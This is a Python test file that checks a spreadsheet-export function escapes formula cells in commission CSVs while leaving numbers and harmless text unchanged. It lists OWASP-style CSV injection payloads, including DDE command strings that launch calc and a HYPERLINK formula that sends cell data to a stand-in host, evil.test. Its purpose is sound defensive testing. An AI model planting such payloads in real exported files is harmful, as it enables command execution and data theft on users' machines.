"""Formula cells are made text in the spreadsheet-safe files; nothing else changes, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.exports.spreadsheet import FORMULA_STARTS, neutralised
from resources.home import Home
from tests.exports.conftest import Outcome
from tests.exports.published import SNAPSHOT, Contents, Finding, Row, publish

# OWASP's CSV injection page and well-known payloads.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "+6281234567890",
    "-",
    "＝1+1",
)
HARMLESS = ("Ayu Spa", "a=1", " =1", "'=1", "", "6281234567890", "é", "0012")


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_becomes_text(text: str) -> None:
    assert neutralised(pl.DataFrame({"t": [text]}))["t"].to_list() == ["'" + text]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralised(pl.DataFrame({"t": [text]}))["t"].to_list() == [text]


def test_numbers_and_nulls_are_left_as_they_are() -> None:
    frame = pl.DataFrame(
        {"i": [-1, None], "f": [-0.5, None], "t": [None, None]}, schema_overrides={"t": pl.String}
    )
    assert neutralised(frame).equals(frame)


@given(st.lists(st.one_of(st.none(), st.text()), min_size=1))
def test_no_cell_begins_with_a_formula_and_the_text_can_be_had_back(texts: list[str | None]) -> None:
    safe = neutralised(pl.DataFrame({"t": texts}, schema={"t": pl.String}))["t"].to_list()
    for before, after in zip(texts, safe, strict=True):
        if before is None:
            assert after is None
        else:
            assert after is not None
            assert not after or after[0] not in FORMULA_STARTS
            assert before == (after[1:] if before[:1] and before[0] in FORMULA_STARTS else after)


def test_the_files_hold_the_payloads_safe_and_raw(
    home: Home, export: Callable[..., Outcome], tmp_path: Path
) -> None:
    texts = [*PAYLOADS, *HARMLESS]
    publish(
        home,
        Contents(
            rows=tuple(
                Row(
                    datetime(2026, 10, 2, 0, 0, n),
                    f"b{n:02}",
                    text,
                    booking_ref=text,
                    actual_idr=-n,
                    state="mismatched",
                )
                for n, text in enumerate(texts)
            ),
            findings=(Finding("orphan", None, "=1+1", detail="-1 is not a rupiah"),),
        ),
    )
    export(tmp_path / "out")

    def rows(suffix: str) -> list[dict[str, str]]:
        path = tmp_path / "out" / f"commissions_2026-10-01_2026-11-01_{SNAPSHOT}{suffix}.csv"
        return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))

    assert [row["booking_ref"] for row in rows("")] == texts
    assert [row["booking_ref"] for row in rows("_spreadsheet")] == [
        "'" + text if text in PAYLOADS else text for text in texts
    ]
    for raw, safe in zip(rows(""), rows("_spreadsheet"), strict=True):
        for column in raw:
            if column not in ("booking_ref", "commission_id"):
                assert raw[column] == safe[column]
    assert [row["actual_idr"] for row in rows("_spreadsheet")] == [str(-n) for n in range(len(texts))]
    assert rows("_findings")[0]["commission_id"] == "=1+1"
    assert rows("_findings_spreadsheet")[0]["commission_id"] == "'=1+1"
    assert rows("_findings_spreadsheet")[0]["detail"] == "'-1 is not a rupiah"
    assert rows("_findings_spreadsheet")[0]["variance_idr"] == "-90000"
